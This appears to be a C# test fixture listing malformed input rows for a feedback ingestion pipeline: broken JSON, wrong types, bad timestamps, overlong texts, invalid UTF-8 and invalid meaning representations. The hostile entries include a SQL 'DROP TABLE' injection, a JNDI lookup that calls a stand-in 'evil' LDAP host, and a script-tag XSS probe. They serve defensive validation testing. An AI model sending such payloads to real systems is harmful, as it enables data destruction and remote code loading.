using System.Text;

namespace Feedback.Testing;

/// <summary>
/// The bad-input corpus of source rows (73 rows): broken JSON, not objects, missing fields, wrong types, bad
/// timestamps, texts empty after normalisation, too long texts, invalid and hostile MRs, invalid UTF-8.
/// Shared by the data update's end-to-end corpus test and the transform's equivalence test.
/// </summary>
public static class MalformedSourceRows
{
    private static readonly string Long = new('x', 4001);

    /// <summary>Malformed API-source rows (raw bytes: some are not even UTF-8).</summary>
    public static IEnumerable<byte[]> Api()
    {
        string[] text =
        [
            // Broken JSON.
            """{"text": "a" """, "not json", """{"text":"x",}""", "[1,2", "{'text':'single quotes'}", """{"text": "unterminated}""", "}",
            """{"text":"bad escape \u12"}""", """{"text":"a" "b"}""", """{text:"unquoted key"}""",
            // Not an object.
            "[]", "\"just a string\"", "42", "null", "true", """[{"text":"in an array"}]""",
            // Missing fields.
            "{}", """{"mr":"inform(name[Myst], rating[good])"}""", """{"id":"only-id"}""", """{"receivedAt":"2026-11-01T00:00:00Z"}""",
            // Wrong types.
            """{"text":42}""", """{"text":["a"]}""", """{"text":{"a":1}}""", """{"text":true}""", """{"text":"ok","mr":5}""",
            """{"text":"ok","mr":["inform"]}""", """{"text":"ok","receivedAt":123}""", """{"text":null}""",
            // Bad timestamps.
            """{"text":"ok","receivedAt":"yesterday"}""", """{"text":"ok","receivedAt":"2026-13-45T99:00:00Z"}""", """{"text":"ok","receivedAt":""}""",
            // Empty after normalisation (control and zero-width characters, whitespace).
            """{"text":""}""", """{"text":"   "}""", """{"text":"\u0000\u0001\u0002"}""", """{"text":"\u200B\uFEFF"}""", """{"text":"\t\n\r"}""",
            // Too long.
            $$"""{"text":"{{Long}}"}""", $$"""{"text":"{{new string('y', 100_000)}}"}""", $$"""{"text":"{{string.Concat(Enumerable.Repeat("\uD83D\uDD25", 2001))}}"}""",
            // Invalid and hostile MRs.
            """{"text":"ok","mr":"inform("}""", """{"text":"ok","mr":"praise(name[Myst])"}""", """{"text":"ok","mr":"inform(name[Myst], rating[great])"}""",
            """{"text":"ok","mr":"inform()"}""", """{"text":"ok","mr":"inform(name[Myst]))"}""", """{"text":"ok","mr":"inform(name[Myst]); DROP TABLE feedback; --"}""",
            """{"text":"ok","mr":"inform(name[a[b]c])"}""", $$"""{"text":"ok","mr":"inform(name[{{new string('z', 10_000)}}])"}""", """{"text":"ok","mr":"((((((((((((((((((("}""",
            """{"text":"ok","mr":"inform(name[Myst], name[Myst])"}""", """{"text":"ok","mr":"verify_attribute(name[Myst])"}""", """{"text":"ok","mr":"INFORM(name[Myst])"}""",
            """{"text":"ok","mr":"inform(name[Myst]"}""", """{"text":"ok","mr":"request(name[Myst], specifier[fun])"}""", """{"text":"ok","mr":"inform(rating[good], name[Myst])"}""",
            """{"text":"ok","mr":"inform(name[Myst], rating[good], genres[shooter, shooter, shooter, shooter, shooter, shooter, shooter, shooter])"}""",
            """{"text":"ok","mr":"${jndi:ldap://evil/a}"}""", """{"text":"ok","mr":"<script>alert(1)</script>"}""", """{"text":"ok","mr":""}""",
        ];
        // Rows stored by the intake carry an id and a receive time: give them to the rows that are about something else.
        const string Stored = "{\"id\":\"bad\",\"receivedAt\":\"2026-11-01T00:00:00Z\",";
        foreach (string row in text)
        {
            yield return Encoding.UTF8.GetBytes(row.StartsWith("{\"text\"", StringComparison.Ordinal) && !row.Contains("receivedAt", StringComparison.Ordinal) ? Stored + row[1..] : row);
        }

        // Invalid UTF-8: a lone continuation byte, an overlong encoding, a truncated sequence, bytes that never occur.
        foreach (byte[] bad in new[] { new byte[] { 0x80 }, [0xC0, 0xAF], [0xE2, 0x82], [0xFF, 0xFE] })
        {
            yield return [.. Encoding.UTF8.GetBytes(Stored + "\"text\":\"bad "), .. bad, .. "\"}"u8.ToArray()];
        }
    }

    /// <summary>Malformed Twitch rows.</summary>
    public static readonly string[] Twitch =
    [
        """{"message_id":"t1","sent_at":"2026-11-01T00:00:00Z"}""",
        """{"message_id":"t2","sent_at":"2026-11-01T00:00:00Z","message":"not an object"}""",
        """{"message_id":"t3","message":{"text":"no time"}}""",
        """{"message_id":"t4","sent_at":"soon","message":{"text":"bad time"}}""",
        """{"message_id":"t5","sent_at":"2026-11-01T00:00:00Z","message":{"text":17}}""",
        """{"sent_at":"2026-11-01T00:00:00Z","message":{"text":"no id"}}""",
    ];

    /// <summary>Malformed Discord rows.</summary>
    public static readonly string[] Discord =
    [
        """{"id":"d1","timestamp":"2026-11-01T00:00:00Z"}""",
        """{"id":"d2","content":"no time"}""",
        """{"id":"d3","content":"x","timestamp":"2026-11-01T00:00:00Z","viggo_mr":"inform(name[Myst]"}""",
        """{"id":4,"content":"numeric id","timestamp":"2026-11-01T00:00:00Z"}""",
        """{"id":"d5","content":"","timestamp":"2026-11-01T00:00:00Z"}""",
    ];
}
